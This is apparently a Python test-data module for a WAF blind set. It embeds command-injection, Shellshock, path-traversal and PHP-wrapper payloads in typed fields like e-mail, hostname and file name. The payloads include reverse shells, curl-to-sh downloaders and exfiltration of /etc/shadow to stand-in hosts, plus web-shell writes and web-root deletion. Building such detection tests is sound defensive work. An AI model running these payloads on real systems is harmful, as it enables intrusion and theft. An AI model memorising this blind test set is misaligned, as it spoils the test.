"""Blind set "hundredthirtyseventh": OS command injection, local file inclusion / path traversal and remote file
inclusion written inside typed fields, with benign requests that carry realistic values of the same fields.

The angle: real applications validate a typed field loosely (a regex that only checks the start, a length, an
"@" somewhere, a leading digit) and then build a shell command, a file path or an include from it. Each payload
is written the way it must look to pass such a check or to fit its position in the back end's command or path: an
e-mail whose tail or local part carries a shell separator (sendmail / mail via popen), a hostname or IP address
followed by a second command (ping, nslookup and traceroute tools), a file name with a command (ImageMagick,
exiftool, ffmpeg wrappers), a date handed to `date -d`, a version handed to `git checkout` or a package manager,
a colour handed to `convert -fill`, a phone number handed to an SMS command line tool, a currency code closing
the string of a PowerShell report script, and for file inclusion a language code, template, theme, image path,
attachment id, log date, rates-file currency, docs version or JSON key that the back end joins into a path or
hands to PHP's include(). Each list's comment names the field type and the target it reaches (/bin/sh, bash,
cmd.exe, PowerShell, a CGI bash, the file-serving code, PHP include, the Java URL opener).

Families (`sub`, one per detection title):
  rce: unix-command-injection, unix-shell-expression-evasion, windows-cmd-injection, powershell,
    unix-command-names-with-paths, reverse-shells, shellshock, downloaders, file-write-via-shell,
    restricted-file-names-in-commands
  lfi: path-traversal, os-file-access, absolute-paths, null-byte-truncation, php-wrapper-lfi,
    log-poisoning-targets, restricted-file-extensions
  rfi: url-with-ip-address, url-with-trailing-question-mark, include-parameter-with-url, off-domain-reference,
    protocols

Placements: every payload is sent twice, always in the field it belongs to and under that field's realistic
parameter names. Once to our real routes (query of /api/users or /api/usage/stats, the admin search, clients and
slack-sign-in forms with their csrf_token, JSON of POST /api/users, PATCH /api/users/7 and its settings object,
PUT /api/switches/weather, a cookie, a header such as User-Agent, Referer, Accept-Language, X-Api-Version or
X-Forwarded-Host, a multipart field or upload file name, an XML body, the /api/users/<id> path, a JSON key), once
the way a WAF regression suite or a scanner sends it (placements prefixed "rs-"): to paths that are not our
routes (/cgi-bin/ping.cgi, /download.php, /index.php, /sms/send.php, /api/v1/...) with the same kind of field
names (host, ip, email, file, lang, page, template, zip, ...), as a query string, form, JSON, XML, multipart file
name, header or cookie. Shellshock goes only in headers (the CGI environment); values that cannot be a header,
cookie, file name or path (new lines, NUL bytes, non-ASCII) move to the field's next body placement.

Authorship and independence: written for this repository from general knowledge of each attack family and the
detection titles alone; no WAF rule, engine source, ruleset regression test or public payload list was read.
Measured once on unchanged code; deterministic (no clock, no randomness).
"""

from __future__ import annotations

import json
import urllib.parse
from collections.abc import Iterator
from typing import Any

from .blind_placements import COOKIE_SAFE, FORM, BlindSet, header_safe, request
from .family_gen_blind_php import chat_and_bio
from .records import print_records

NAME = "hundredthirtyseventh"

# ----------------------------------------------------------------------------------------------------------------
# Typed fields: where each goes. (place, route, parameter name); "rs-" places are the regression-suite copies.
Spec = tuple[str, str, str]
FIELDS: dict[str, tuple[list[Spec], list[Spec]]] = {
    "email": ([("json", "/api/users/7", "email"), ("form", "/admin/users/search", "email"),
               ("query", "/api/users", "email"), ("multipart-field", "/api/users", "email"),
               ("xml", "/api/users", "email")],
              [("rs-form", "/contact.php", "email"), ("rs-query", "/newsletter/subscribe", "email"),
               ("rs-json", "/api/v1/register", "email"), ("rs-xml", "/api/v1/accounts", "email"),
               ("rs-form", "/password/reset", "user_email"), ("rs-cookie", "/", "remember_email")]),
    "name": ([("json", "/api/users/7", "name"), ("form", "/admin/users/search", "q"), ("query", "/api/users", "q")],
             [("rs-form", "/register", "full_name"), ("rs-json", "/api/v1/customers", "name"),
              ("rs-query", "/search", "q")]),
    "hostname": ([("json", "/api/users", "host"), ("query", "/api/users", "host"),
                  ("form", "/admin/clients", "redirect_host"), ("header", "/api/users", "X-Forwarded-Host"),
                  ("xml", "/api/users", "hostname")],
                 [("rs-query", "/cgi-bin/ping.cgi", "host"), ("rs-form", "/tools/ping.php", "ip"),
                  ("rs-json", "/api/v1/diagnostics/dns", "hostname"), ("rs-query", "/admin/nslookup", "domain"),
                  ("rs-header", "/", "X-Forwarded-Host"), ("rs-xml", "/api/v1/network/trace", "target")]),
    "phone": ([("json", "/api/users/7", "settings.phone"), ("form", "/admin/users/search", "phone"),
               ("query", "/api/users", "phone")],
              [("rs-form", "/sms/send.php", "to"), ("rs-json", "/api/v1/otp", "phone_number"),
               ("rs-query", "/callback", "mobile")]),
    "filename": ([("multipart-filename", "/admin/users/import", "file"), ("query", "/api/users", "file"),
                  ("json", "/api/users", "filename"), ("form", "/admin/users/search", "export_name")],
                 [("rs-multipart-filename", "/upload.php", "file"), ("rs-query", "/download.php", "file"),
                  ("rs-form", "/convert", "filename"), ("rs-json", "/api/v1/thumbnails", "filename"),
                  ("rs-query", "/files/get", "name")]),
    "date": ([("query", "/api/usage/stats", "since"), ("query", "/api/usage/stats", "until"),
              ("json", "/api/users", "birth_date"), ("form", "/admin/users/search", "created_after")],
             [("rs-query", "/reports/daily", "date"), ("rs-json", "/api/v1/bookings", "check_in"),
              ("rs-form", "/archive.php", "from_date")]),
    "time": ([("json", "/api/users/7", "settings.alert_time"), ("form", "/admin/users/search", "alert_time")],
             [("rs-form", "/reminders", "time"), ("rs-query", "/schedule", "at")]),
    "timezone": ([("json", "/api/users/7", "settings.timezone"), ("query", "/api/users", "tz")],
                 [("rs-query", "/calendar", "tz"), ("rs-json", "/api/v1/profile", "timezone")]),
    "version": ([("header", "/api/users", "X-Api-Version"), ("query", "/api/users", "version"),
                 ("json", "/api/users", "app_version")],
                [("rs-query", "/update/check", "version"), ("rs-header", "/", "X-App-Version"),
                 ("rs-json", "/api/v1/plugins/install", "version"), ("rs-form", "/deploy", "tag")]),
    "id": ([("path", "/api/users/", ""), ("query", "/api/users", "team_id"),
            ("json", "/api/switches/weather", "team_id"), ("form", "/admin/slack-sign-in", "user_id")],
           [("rs-query", "/item.php", "id"), ("rs-json", "/api/v1/orders", "order_id"),
            ("rs-form", "/cart/add", "product_id"), ("rs-cookie", "/", "uid")]),
    "colour": ([("json", "/api/users/7", "settings.theme_color"), ("form", "/admin/users/search", "color"),
                ("cookie", "/api/users", "theme_color")],
               [("rs-query", "/image/render", "color"), ("rs-json", "/api/v1/badges", "background"),
                ("rs-form", "/avatar/generate.php", "fill")]),
    "postcode": ([("json", "/api/users", "postcode"), ("form", "/admin/users/search", "zip"),
                  ("query", "/api/users", "postal_code")],
                 [("rs-query", "/shipping/quote", "zip"), ("rs-form", "/checkout.php", "postcode"),
                  ("rs-json", "/api/v1/addresses", "postal_code")]),
    "price": ([("json", "/api/users", "amount"), ("form", "/admin/users/search", "quantity")],
              [("rs-form", "/cart/update", "qty"), ("rs-json", "/api/v1/payments", "amount"),
               ("rs-query", "/products", "max_price")]),
    "sort": ([("query", "/api/users", "sort"), ("query", "/api/users", "order_by"),
              ("form", "/admin/users/search", "sort")],
             [("rs-query", "/products", "sort"), ("rs-query", "/api/v1/items", "orderby"),
              ("rs-json", "/api/v1/search", "sort_by")]),
    "page": ([("query", "/api/users", "limit"), ("query", "/api/users", "offset"),
              ("form", "/admin/users/search", "page")],
             [("rs-query", "/list.php", "page"), ("rs-query", "/api/v1/items", "per_page")]),
    "currency": ([("query", "/api/users", "currency"), ("json", "/api/users", "currency"),
                  ("cookie", "/api/users", "currency")],
                 [("rs-query", "/shop/prices", "currency"), ("rs-json", "/api/v1/invoices", "currency"),
                  ("rs-cookie", "/", "cur")]),
    "lang": ([("cookie", "/api/users", "lang"), ("query", "/api/users", "lang"),
              ("json", "/api/users/7", "settings.locale"), ("form", "/admin/users/search", "language")],
             [("rs-query", "/index.php", "lang"), ("rs-cookie", "/", "locale"), ("rs-query", "/", "language"),
              ("rs-form", "/settings.php", "lang")]),
    "url": ([("json", "/api/users", "avatar_url"), ("query", "/api/users", "callback"),
             ("form", "/admin/clients", "redirect_uri"), ("xml", "/api/users", "website"),
             ("multipart-field", "/api/users", "webhook_url"), ("query", "/admin/login", "next")],
            [("rs-query", "/index.php", "url"), ("rs-form", "/fetch", "url"),
             ("rs-json", "/api/v1/webhooks", "target_url"), ("rs-query", "/proxy", "src"),
             ("rs-xml", "/api/v1/feeds", "feed_url"), ("rs-query", "/redirect", "return_to")]),
    "include": ([("query", "/api/users", "template"), ("form", "/admin/users/search", "view"),
                 ("json", "/api/users", "include"), ("cookie", "/api/users", "page_name"),
                 ("multipart-field", "/api/users", "path"), ("query", "/api/users", "file")],
                [("rs-query", "/index.php", "page"), ("rs-query", "/", "file"), ("rs-form", "/main.php", "include"),
                 ("rs-query", "/view.php", "template"), ("rs-json", "/api/v1/render", "path"),
                 ("rs-query", "/index.php", "inc"), ("rs-query", "/index.php", "module"), ("rs-cookie", "/", "page")]),
    "template": ([("query", "/api/users", "template"), ("json", "/api/users", "email_template"),
                  ("form", "/admin/clients", "template")],
                 [("rs-query", "/render", "tpl"), ("rs-json", "/api/v1/mail/preview", "template"),
                  ("rs-query", "/index.php", "layout")]),
    "theme": ([("cookie", "/api/users", "theme"), ("json", "/api/users/7", "settings.theme"),
               ("query", "/api/users", "skin")],
              [("rs-cookie", "/", "skin"), ("rs-query", "/index.php", "style"), ("rs-form", "/prefs.php", "theme")]),
    "imgpath": ([("json", "/api/users", "avatar"), ("query", "/api/users", "img")],
                [("rs-query", "/image.php", "src"), ("rs-query", "/thumb", "path"),
                 ("rs-json", "/api/v1/media", "image")]),
    "jsonkey": ([("json-key", "/api/users/7", "settings")], [("rs-json-key", "/api/v1/translations", "strings")]),
    # the CGI environment: shellshock rides on headers only
    "useragent": ([("header", "/api/users", "User-Agent"), ("header", "/admin/login", "User-Agent")],
                  [("rs-header", "/cgi-bin/test.cgi", "User-Agent"), ("rs-header", "/cgi-bin/status", "User-Agent")]),
    "referer": ([("header", "/api/users", "Referer")], [("rs-header", "/cgi-bin/test-cgi", "Referer")]),
    "langheader": ([("header", "/api/users", "Accept-Language")],
                   [("rs-header", "/cgi-bin/index.cgi", "Accept-Language")]),
    "fromheader": ([("header", "/api/users", "From")], [("rs-header", "/cgi-bin/mail.cgi", "From")]),
    "versionheader": ([("header", "/api/users", "X-Api-Version")],
                      [("rs-header", "/cgi-bin/api.cgi", "X-Api-Version")]),
    "cookieheader": ([("header", "/api/users", "Cookie")], [("rs-header", "/cgi-bin/login.cgi", "Cookie")]),
}

# ================================================================================================================
# rce
# ----------------------------------------------------------------------------------------------------------------
# unix-command-injection
# hostname / IP of a "ping / nslookup" diagnostics tool: sh -c "ping -c 1 <host>" (/bin/sh via popen)
CMDI_HOST = [
    "example.com;id",
    "8.8.8.8 | id",
    "127.0.0.1 && uname -a",
    "localhost || id",
    "example.org`id`",
    "$(whoami).dnslog.attacker.example",
    "10.0.0.1\nid",
    "192.168.1.1;sleep 10",
]
# e-mail handed to `mail -s ... <addr>` / sendmail through /bin/sh (a check that only wants an "@" and a dot)
CMDI_EMAIL = [
    "alice@example.com;id",
    "bob@example.org|id",
    "carol@example.net`whoami`",
    "$(id)@example.com",
    "dave@example.com&&uname -a",
    "erin@example.com\nwhoami",
]
# phone number handed to an SMS command line client (/bin/sh)
CMDI_PHONE = ["+14155550123;id", "+44 20 7946 0958 | whoami"]
# uploaded file name handed to `convert <name> thumb.png` (/bin/sh)
CMDI_FILE = ["avatar.png;id", "report.pdf|uname -a", "photo$(id).jpg"]
# date handed to `date -d <date>` in a report script (/bin/sh)
CMDI_DATE = ["2024-05-01;id", "2024-05-01 && sleep 5"]
# version handed to `git checkout <tag>` in a deploy hook (/bin/sh)
CMDI_VERSION = ["1.2.3;id", "v2.0.1||id"]

# unix-shell-expression-evasion: quotes, ${IFS}, globbing, brace expansion, variables (bash / sh)
# hostname of the ping tool (bash)
EVASION_HOST = [
    "example.com;c'a't${IFS}/etc/passwd",
    "127.0.0.1;{cat,/etc/passwd}",
    "8.8.8.8|/???/c?t${IFS}/???/p?ss??",
    "localhost;w\\h\\o\\a\\m\\i",
    "10.0.0.1;$(printf${IFS}'\\151\\144')",
]
# e-mail of the mailer (bash)
EVASION_EMAIL = [
    "a@example.com;c\"a\"t$IFS/etc/passwd",
    "x@example.com$(echo${IFS}aWQ=|base64${IFS}-d|sh)",
    "y@example.org;a=i;b=d;$a$b",
]
# file name of the thumbnailer (bash)
EVASION_FILE = ["img.png;/bin/c${u}at /etc/passwd", "doc.pdf;$'\\x69\\x64'", "photo.jpg;who$@ami"]
# version of the deploy hook, colour of `convert -fill`, postcode of an address CLI, date, phone (bash)
EVASION_VERSION = ["1.0;cat${IFS}${HOME:0:1}etc${HOME:0:1}passwd"]
EVASION_COLOUR = ["#ff0000;w$()hoami"]
EVASION_POSTCODE = ["SW1A1AA;un''ame${IFS}-a"]
EVASION_DATE = ["2024-01-01;$(rev<<<'di')"]
EVASION_PHONE = ["+15550100;tr${IFS}a-z${IFS}b-za<<<hc|sh"]

# windows-cmd-injection: the same tools on a Windows host, cmd.exe via system() / _popen
# hostname of the ping tool (cmd.exe)
WIN_HOST = [
    "127.0.0.1 & whoami",
    "8.8.8.8 | type C:\\Windows\\win.ini",
    "localhost && dir C:\\",
    "example.com || net user",
    "127.0.0.1 & ipconfig /all",
    "localhost & for /f %i in ('whoami') do nslookup %i.dnslog.attacker.example",
]
# e-mail of a blat / mail command (cmd.exe)
WIN_EMAIL = ["alice@example.com & net localgroup administrators", "bob@example.com | systeminfo"]
# file name of a converter (cmd.exe)
WIN_FILE = [
    "report.pdf & type %SYSTEMROOT%\\win.ini",
    "invoice.docx | certutil -urlcache -split -f http://203.0.113.9/x.exe x.exe",
    "scan.tif & c^m^d /c who^ami",
    "photo.jpg & cmd /v:on /c \"set x=who&&set y=ami&&call !x!!y!\"",
]
# date, version, phone (cmd.exe)
WIN_DATE = ["2024-05-01 & tasklist /v"]
WIN_VERSION = ["1.0.2 & echo %USERNAME%", "2.1 | findstr /si password *.config"]
WIN_PHONE = ["+15550100 & ping -n 11 127.0.0.1"]

# powershell: fields that reach PowerShell (Test-Connection wrappers, report scripts, Invoke-Expression)
# hostname of a Test-Connection wrapper (PowerShell / cmd.exe starting it)
PS_HOST = [
    "127.0.0.1; Get-ChildItem C:\\",
    "8.8.8.8 | powershell -nop -c whoami",
    "example.com; iex (New-Object Net.WebClient).DownloadString('http://203.0.113.9/a.ps1')",
    "localhost; [System.Diagnostics.Process]::Start('cmd','/c whoami')",
]
# e-mail of a Send-MailMessage script
PS_EMAIL = ["a@example.com; Invoke-Expression 'whoami'", "b@example.com & powershell -enc dwBoAG8AYQBtAGkA"]
# file name of a conversion script
PS_FILE = [
    "report.pdf; Start-Process calc.exe",
    "scan.png & powershell.exe -ExecutionPolicy Bypass -File \\\\203.0.113.9\\s\\a.ps1",
    "data.csv; Get-Content C:\\Windows\\win.ini",
]
# date, version, currency code closing the script's quoted string, time, id (PowerShell)
PS_DATE = ["2024-05-01; Invoke-WebRequest -Uri http://203.0.113.9/x -OutFile $env:TEMP\\x.exe"]
PS_VERSION = ["1.0 | pwsh -c \"Get-Process\"", "2.0; IEX(IWR http://203.0.113.9/p.ps1 -UseBasicParsing)"]
PS_CURRENCY = ["EUR'; Remove-Item -Recurse -Force C:\\inetpub\\wwwroot; '"]
PS_TIME = ["10:30; Get-WmiObject Win32_UserAccount"]
PS_ID = ["42; & ([scriptblock]::Create('whoami'))", "43; Get-Content $env:USERPROFILE\\.ssh\\id_rsa"]

# unix-command-names-with-paths: the command called by its absolute path (/bin/sh)
PATHS_HOST = [
    "example.com;/usr/bin/id",
    "127.0.0.1|/bin/uname -a",
    "8.8.8.8&&/usr/bin/whoami",
    "localhost;/sbin/ifconfig -a",
]
PATHS_EMAIL = ["a@example.com|/usr/bin/env", "b@example.org;/bin/ps aux"]
PATHS_FILE = ["img.png;/bin/ls -la /var/www", "doc.pdf`/usr/bin/id`", "x.jpg$(/bin/hostname)"]
PATHS_DATE = ["2024-05-01;/usr/bin/last"]
PATHS_VERSION = ["1.2.3;/usr/bin/python3 -c 'import os;os.system(\"id\")'",
                 "1.0|/usr/local/bin/php -r 'system(\"id\");'"]
PATHS_PHONE = ["+15550100;/usr/bin/nslookup $(/usr/bin/whoami).dnslog.attacker.example"]
PATHS_COLOUR = ["#000000|/bin/busybox id"]
PATHS_ID = ["42;/usr/bin/getent passwd"]
PATHS_POSTCODE = ["10115|/bin/netstat -tlnp"]

# reverse-shells: a connect-back from the shell the field reaches (bash /dev/tcp, nc, python, perl, socat, ...)
# hostname of the ping tool (bash, nc)
REV_HOST = [
    "example.com;bash -i >& /dev/tcp/203.0.113.9/4444 0>&1",
    "127.0.0.1|nc -e /bin/sh 203.0.113.9 4444",
    "8.8.8.8;rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 203.0.113.9 4444 >/tmp/f",
    "localhost;bash -c 'exec bash -i &>/dev/tcp/203.0.113.9/4444 <&1'",
]
# e-mail of the mailer (python3, perl)
REV_EMAIL = [
    "a@example.com;python3 -c 'import socket,os,pty;s=socket.socket();s.connect((\"203.0.113.9\",4444));"
    "[os.dup2(s.fileno(),f) for f in(0,1,2)];pty.spawn(\"sh\")'",
    "b@example.com|perl -e 'use Socket;$i=\"203.0.113.9\";$p=4444;socket(S,PF_INET,SOCK_STREAM,"
    "getprotobyname(\"tcp\"));if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,\">&S\");"
    "open(STDOUT,\">&S\");exec(\"/bin/sh -i\")}'",
]
# file name of the thumbnailer (socat, ncat, bash /dev/udp)
REV_FILE = [
    "a.png;socat tcp-connect:203.0.113.9:4444 exec:/bin/sh,pty,stderr,setsid",
    "b.pdf`ncat 203.0.113.9 4444 -e /bin/bash`",
    "c.jpg;sh -i >& /dev/udp/203.0.113.9/53 0>&1",
]
# date (bash fd 196), version (php, ruby), phone (telnet), id (busybox nc), postcode (gawk), colour (xterm)
REV_DATE = ["2024-05-01;0<&196;exec 196<>/dev/tcp/203.0.113.9/4444; sh <&196 >&196 2>&196"]
REV_VERSION = [
    "1.0;php -r '$s=fsockopen(\"203.0.113.9\",4444);exec(\"/bin/sh -i <&3 >&3 2>&3\");'",
    "2.0;ruby -rsocket -e'f=TCPSocket.open(\"203.0.113.9\",4444).to_i;exec sprintf(\"/bin/sh -i <&%d >&%d 2>&%d\","
    "f,f,f)'",
]
REV_PHONE = ["+15550100;telnet 203.0.113.9 4444 | /bin/sh | telnet 203.0.113.9 4445"]
REV_ID = ["42;busybox nc 203.0.113.9 4444 -e sh"]
REV_POSTCODE = ["90210;awk 'BEGIN{s=\"/inet/tcp/0/203.0.113.9/4444\";while(1){printf \"> \"|&s;s|&getline c;"
                "while((c|&getline)>0)print|&s;close(c)}}'"]
REV_COLOUR = ["#00ff00;xterm -display 203.0.113.9:1"]

# shellshock: function definitions in headers that a CGI bash imports from its environment (CVE-2014-6271 ff.)
# User-Agent (HTTP_USER_AGENT)
SHOCK_UA = [
    "() { :; }; /bin/bash -c 'id'",
    "() { :;}; echo; /bin/cat /etc/passwd",
    "() { _; } >_[$($())] { id; }",
    "() { :; }; /usr/bin/wget http://203.0.113.9/s -O /tmp/s",
    "() { ignored;}; /bin/sleep 20",
    "() { :; }; echo Content-Type: text/plain; echo; /usr/bin/id",
    "(){ :; }; /bin/bash -i >& /dev/tcp/203.0.113.9/4444 0>&1",
    "() { (a)=>\\",
]
# Referer URL (HTTP_REFERER), Accept-Language (HTTP_ACCEPT_LANGUAGE), From e-mail, X-Api-Version, Cookie
SHOCK_REFERER = ["() { :; }; ping -c 3 203.0.113.9", "() { x; }; /usr/bin/nslookup shellshock.dnslog.attacker.example"]
SHOCK_LANG = ["() { :;}; /bin/uname -a", "() { :; }; echo vulnerable"]
SHOCK_FROM = ["() { :; }; /bin/mail -s x attacker@evil.example < /etc/shadow"]
SHOCK_VERSION = ["() { 0; }; /bin/ls /"]
SHOCK_COOKIE = ["() { :; }; export PATH=/bin; id", "() { :; }; /usr/bin/curl -d @/etc/passwd http://203.0.113.9/"]

# downloaders: fetch a script and run it (curl / wget / tftp / python piped to a shell)
# hostname of the ping tool (/bin/sh)
DL_HOST = [
    "example.com;curl http://203.0.113.9/x.sh|sh",
    "127.0.0.1|wget -qO- http://203.0.113.9/a|bash",
    "8.8.8.8;wget http://203.0.113.9/bot -O /tmp/bot;chmod +x /tmp/bot;/tmp/bot",
]
# URL of an avatar / webhook fetched with `curl -o ... <url>` (/bin/sh)
DL_URL = [
    "http://example.com/a.png;curl -s http://203.0.113.9/i.sh | sh",
    "https://example.com/logo.png`wget -O- 203.0.113.9/x|sh`",
    "http://cdn.example.com/x.jpg$(curl -fsSL http://203.0.113.9/s.sh|bash)",
]
# e-mail, file name, version, date, id, phone (/bin/sh)
DL_EMAIL = ["a@example.com;curl -o /tmp/r http://203.0.113.9/r && sh /tmp/r",
            "b@example.com|busybox wget http://203.0.113.9/m -O- | sh"]
DL_FILE = ["f.png;tftp -g -r x.sh 203.0.113.9;sh x.sh", "g.jpg;lwp-download http://203.0.113.9/p.pl /tmp/p.pl",
           "h.pdf;fetch -o - http://203.0.113.9/x | sh"]
DL_VERSION = ["1.0;curl 203.0.113.9/s|python3", "2.0|wget -q http://203.0.113.9/shell.php -O /var/www/html/s.php"]
DL_DATE = ["2024-05-01;python3 -c \"import urllib.request;exec(urllib.request.urlopen('http://203.0.113.9/p').read())\""]
DL_ID = ["42;curl -k https://203.0.113.9/k -o /dev/shm/k;sh /dev/shm/k"]
DL_PHONE = ["+15550100;(curl -s 203.0.113.9/c||wget -qO- 203.0.113.9/c)|sh"]

# file-write-via-shell: echo / printf / tee / cp writing a web shell, a key, a cron job or a passwd line (/bin/sh)
FW_FILE = [
    "x.png;echo '<?php system($_GET[c]);?>' > /var/www/html/c.php",
    "y.pdf|tee /var/www/html/s.php <<< '<?=`$_GET[0]`?>'",
    "z.jpg;printf '%s' '<% Runtime.getRuntime().exec(request.getParameter(\"c\")); %>' > "
    "/usr/local/tomcat/webapps/ROOT/x.jsp",
]
FW_HOST = [
    "127.0.0.1;echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIO0kq attacker' >> ~/.ssh/authorized_keys",
    "example.com;echo '* * * * * root curl 203.0.113.9/c|sh' > /etc/cron.d/x",
    "8.8.8.8|tee -a /etc/passwd <<< 'r00t::0:0::/root:/bin/bash'",
]
FW_EMAIL = ["a@example.com;echo 'eval(base64_decode($_POST[z]));' >> /var/www/html/index.php",
            "b@example.com;echo PD9waHAgc3lzdGVtKCRfR0VUWzBdKTs/Pg==|base64 -d > /var/www/html/i.php"]
FW_VERSION = ["1.0;echo 'nc 203.0.113.9 4444 -e /bin/sh' >> ~/.bashrc",
              "2.0;echo 'ALL ALL=(ALL) NOPASSWD:ALL' | tee -a /etc/sudoers"]
FW_DATE = ["2024-05-01;echo > /var/www/html/index.html"]
FW_ID = ["42;touch /tmp/pwned", "43;echo '#!/bin/sh' > /tmp/x && chmod +x /tmp/x"]
FW_COLOUR = ["#ffffff;cp /etc/passwd /var/www/html/p.txt"]
FW_POSTCODE = ["10115;echo hacked | tee /var/www/html/index.html"]
FW_PHONE = ["+15550100;sed -i 's/^root:x:/root::/' /etc/passwd"]

# restricted-file-names-in-commands: the second command reads a secret file (/bin/sh, cmd.exe)
RF_HOST = [
    "127.0.0.1;cat /etc/shadow",
    "example.com|head -n 5 /etc/passwd",
    "8.8.8.8;cat ~/.ssh/id_rsa",
    "example.org & type C:\\inetpub\\wwwroot\\web.config",
]
RF_EMAIL = ["a@example.com;cat /proc/self/environ", "b@example.com|tail -n 50 /root/.bash_history"]
RF_FILE = ["x.png;more /etc/group", "y.pdf;cat /var/www/html/wp-config.php", "z.jpg;cat /var/www/.htpasswd"]
RF_VERSION = ["1.0;grep -r DB_PASSWORD /var/www/.env", "2.0;od -c /etc/sudoers"]
RF_DATE = ["2024-05-01;tac /etc/shadow"]
RF_ID = ["42;cat /home/*/.ssh/authorized_keys"]
RF_PHONE = ["+15550100;xxd /etc/master.passwd"]
RF_COLOUR = ["#000;strings /etc/krb5.keytab"]
RF_POSTCODE = ["10115;base64 /etc/ssl/private/server.key"]

# ================================================================================================================
# lfi: the field is joined into a path the back end opens (readfile / open() / PHP include / Java File)
# ----------------------------------------------------------------------------------------------------------------
# path-traversal: ../ and ..\ in plain, URL, double, overlong UTF-8, %u, fullwidth and path-parameter forms
# download file name (file-serving code: readfile("files/" . $name), send_file)
TRAV_FILE = [
    "../../../../etc/passwd",
    "..\\..\\..\\..\\windows\\win.ini",
    "....//....//....//etc/passwd",
    "..%2f..%2f..%2f..%2fetc%2fpasswd",
    "%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd",
    "..%c0%af..%c0%af..%c0%afetc%c0%afpasswd",
    "..%252f..%252f..%252fetc%252fpasswd",
    "%2e%2e%5c%2e%2e%5c%2e%2e%5cwindows%5cwin.ini",
    "..%u2215..%u2215..%u2215etc%u2215passwd",
    "..;/..;/..;/etc/passwd",
    "..//..//..//..//etc/passwd",
    "..\\/..\\/..\\/etc/passwd",
    "%252e%252e%252f%252e%252e%252fetc%252fpasswd",
    "..%ef%bc%8f..%ef%bc%8f..%ef%bc%8fetc%ef%bc%8fpasswd",
]
# language code joined into "lang/<code>.php" (PHP include)
TRAV_LANG = ["en/../../../../etc/passwd", "../../../../../../etc/passwd", "..%5c..%5c..%5c..%5cwindows%5csystem.ini"]
# template name joined into "templates/<name>" (template loader)
TRAV_TEMPLATE = ["default/../../../../../etc/group", "..\\..\\..\\..\\..\\..\\windows\\system32\\drivers\\etc\\hosts"]
# image path, log date, attachment id, rates-file currency code (file-serving code)
TRAV_IMG = ["images/../../../../etc/shadow"]
TRAV_DATE = ["2024-05-01/../../../../etc/passwd"]
TRAV_ID = ["42/../../../../../etc/passwd"]
TRAV_CURRENCY = ["EUR/../../../../etc/passwd"]

# os-file-access: the secret files themselves, relative to the app or a few levels up
# download file name (file-serving code)
OSF_FILE = [
    ".git/config",
    ".git/HEAD",
    ".env",
    "../.env",
    ".htaccess",
    "../../.htaccess",
    "WEB-INF/web.xml",
    "../web.config",
    "..\\..\\web.config",
    "../../../../../root/.ssh/id_rsa",
    ".git/logs/HEAD",
    "../.git/index",
    ".svn/entries",
]
# language code (PHP include), template name, theme, image path, JSON key, docs version (file readers)
OSF_LANG = ["../../../../proc/self/environ", "../../../../proc/self/cmdline", "../../../../../proc/self/status"]
OSF_TEMPLATE = ["../../../../../../windows/win.ini", "..\\..\\..\\..\\boot.ini", "../../../../home/ubuntu/.ssh/id_rsa"]
OSF_THEME = ["../../.aws/credentials"]
OSF_IMG = ["../../../../var/run/secrets/kubernetes.io/serviceaccount/token"]
OSF_JSONKEY = ["../../config/database.yml"]
OSF_VERSION = ["../../../../proc/self/maps"]

# absolute-paths: a field that should hold a relative name gets a rooted Unix or Windows path (open / include)
ABS_FILE = [
    "/etc/passwd",
    "/etc/shadow",
    "C:\\Windows\\win.ini",
    "c:/boot.ini",
    "C:\\inetpub\\wwwroot\\web.config",
    "/var/www/html/config.php",
    "/root/.bash_history",
    "file:///etc/passwd",
    "\\\\?\\C:\\Windows\\System32\\drivers\\etc\\hosts",
    "/proc/self/environ",
    "/proc/version",
]
ABS_TEMPLATE = ["/etc/nginx/nginx.conf", "/usr/local/etc/php/php.ini", "/opt/tomcat/conf/tomcat-users.xml"]
ABS_LANG = ["/etc/mysql/my.cnf", "/proc/1/environ"]
ABS_THEME = ["/etc/apache2/apache2.conf"]
ABS_IMG = ["/home/www-data/.ssh/id_rsa", "C:/Windows/System32/config/SAM"]
ABS_JSONKEY = ["/var/run/secrets/kubernetes.io/serviceaccount/token"]
ABS_ID = ["/etc/issue"]
ABS_DATE = ["/var/lib/mysql/mysql/user.MYD"]
ABS_CURRENCY = ["/etc/group"]

# null-byte-truncation: a NUL (raw or %00 for a second decode) or a length / dot / ";" cut drops the
# appended extension (PHP < 5.3.4 include, C file APIs, IIS 6 ";" parsing, Windows trailing dots)
NUL_FILE = [
    "../../../../etc/passwd\x00",
    "../../../../etc/passwd\x00.png",
    "../../../../etc/passwd%00",
    "../../../../etc/passwd%00.jpg",
    "../../../../etc/passwd%2500.pdf",
    "shell.php\x00.png",
    "shell.php%00.jpg",
    "shell.asp;.jpg",
    "/etc/passwd\x00.txt",
    "..\\..\\..\\boot.ini\x00.docx",
    "../../../../etc/passwd" + "/." * 1024,
    "..\\..\\..\\windows\\win.ini....",
]
NUL_LANG = ["../../../../../etc/passwd\x00", "../../../../../etc/passwd%00", "/etc/passwd\x00"]
NUL_TEMPLATE = ["../../../../../../etc/passwd\x00.tpl", "C:\\boot.ini\x00.html", "../../../../etc/passwd%00.twig"]
NUL_THEME = ["/etc/passwd%00.css", "../../../../etc/hosts\x00.css"]
NUL_IMG = ["../../../../etc/shadow\x00.jpg"]
NUL_DATE = ["2024-05-01/../../../../etc/passwd\x00.log"]
NUL_CURRENCY = ["../../../../etc/passwd\x00.json"]

# php-wrapper-lfi: PHP stream wrappers handed to include() / file_get_contents() (PHP 7/8)
# page / view / include name (PHP include)
WRAP_INCLUDE = [
    "php://filter/convert.base64-encode/resource=index.php",
    "php://filter/read=string.rot13/resource=config.php",
    "php://input",
    "pHp://FilTer/convert.base64-encode/resource=../config",
    "php://filter/resource=../../../../etc/passwd",
    "php://filter/zlib.deflate/convert.base64-encode/resource=/var/www/html/index.php",
    "php://filter/string.toupper|string.rot13/resource=config.php",
]
# language code, template name, file name, theme, image path, JSON key, log date (PHP include / readers)
WRAP_LANG = ["php://filter/convert.iconv.utf-8.utf-16/resource=/etc/passwd",
             "php://filter/convert.base64-encode/resource=lang/en", "phar://uploads/avatar.jpg/x"]
WRAP_TEMPLATE = ["php://filter/convert.quoted-printable-encode/resource=wp-config.php",
                 "zip://uploads/resume.zip#shell.php", "zip:///var/www/html/uploads/doc.docx%23x.php"]
